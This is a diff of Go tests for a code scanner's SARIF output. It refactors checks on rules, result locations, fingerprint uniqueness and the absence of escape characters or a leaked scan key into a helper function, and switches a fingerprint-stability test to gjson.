-		t.Run(name, func(t *testing.T) {
-			text := sarifOf(t, paths...)
-			var log sarifLog
-			if err := json.Unmarshal([]byte(text), &log); err != nil {
-				t.Fatal(err)
-			}
-			if log.Version != "2.1.0" || len(log.Runs) != 1 || log.Runs[0].Tool.Driver.Name == "" || log.Runs[0].Results == nil {
-				t.Fatalf("%.200s", text)
-			}
-			rules, prints := map[string]bool{}, map[string]bool{}
-			for _, r := range log.Runs[0].Tool.Driver.Rules {
-				if rules[r.ID] || r.ID == "" || r.ShortDescription.Text == "" {
-					t.Errorf("rule %+v", r)
-				}
-				if rules[r.ID] = true; r.Help.Text == "" {
-					t.Errorf("rule %q has no help text", r.ID)
-				}
-			}
-			for _, r := range *log.Runs[0].Results {
-				if !rules[r.RuleID] || !slices.Contains([]string{"note", "warning", "error"}, r.Level) || r.Message.Text == "" || len(r.Locations) != 1 || len(r.PartialFingerprints) == 0 {
-					t.Fatalf("result %+v", r)
-				}
-				at := r.Locations[0].PhysicalLocation
-				u, err := url.Parse(at.ArtifactLocation.URI)
-				if err != nil || at.Region.StartLine < 1 || u.Scheme != "" && u.Scheme != "file" {
-					t.Fatalf("%q: %v", at.ArtifactLocation.URI, err)
-				}
-				path := filepath.FromSlash(u.Path)
-				if u.Scheme == "" {
-					path = filepath.Join(clone, path)
-				}
-				if _, err := os.Stat(path); err != nil {
-					t.Errorf("%q leads nowhere: %v", at.ArtifactLocation.URI, err)
-				}
-				for _, p := range r.PartialFingerprints {
-					if prints[p] {
-						t.Errorf("two results have the fingerprint %q", p)
-					}
-					prints[p] = true
-				}
-			}
-			if strings.ContainsAny(text, "\x1b\u202e\u009b") || strings.Contains(text, scanKey) {
-				t.Error("what should be hidden is shown")
-			}
-		})
+		t.Run(name, func(t *testing.T) { checkSARIF(t, sarifOf(t, paths...), clone) })
 	}
 }
 
 // A code host tells by the fingerprint whether a finding is the one that it had.
 func TestFindingsKeepTheirNames(t *testing.T) {
-	prints := func(text string) (list []string) {
-		var log sarifLog
-		if err := json.Unmarshal([]byte(text), &log); err != nil {
-			t.Fatal(err)
-		}
-		for _, r := range *log.Runs[0].Results {
-			list = append(list, r.RuleID+" "+r.PartialFingerprints["sallyport/v1"])
-		}
-		slices.Sort(list)
-		return list
-	}
 	a, b := cloneOf(t), cloneOf(t)
-	if first, second := prints(sarifOf(t, a)), prints(sarifOf(t, b)); !slices.Equal(first, second) {
-		t.Errorf("the same clone in another folder has other fingerprints: %.200q", slices.Concat(first[:1], second[:1]))
+	if first, second := gjson.Get(sarifOf(t, a), "runs.0.results.#.partialFingerprints").Raw, gjson.Get(sarifOf(t, b), "runs.0.results.#.partialFingerprints").Raw; first != second {
+		t.Errorf("the same clone in another folder has other fingerprints: %.120s, %.120s", first, second)
 	}
 	ids := func(entry string) string {
 		for _, f := range scanEntry(t, entry).Findings {
